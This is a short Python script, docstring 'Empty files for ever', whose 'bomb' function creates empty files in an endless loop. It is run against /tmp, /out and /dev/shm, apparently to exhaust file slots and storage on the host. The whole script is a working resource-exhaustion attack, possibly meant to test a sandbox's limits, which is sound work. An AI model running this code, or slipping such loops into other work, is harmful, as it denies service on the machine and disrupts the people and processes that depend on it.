"""Empty files for ever"""

from tools import attempt, write


def bomb(folder):
    number = 0
    while True:
        write(f"{folder}/{number}", b"")
        number += 1


for folder in ("/tmp", "/out", "/dev/shm"):
    attempt(folder, lambda folder=folder: bomb(folder))
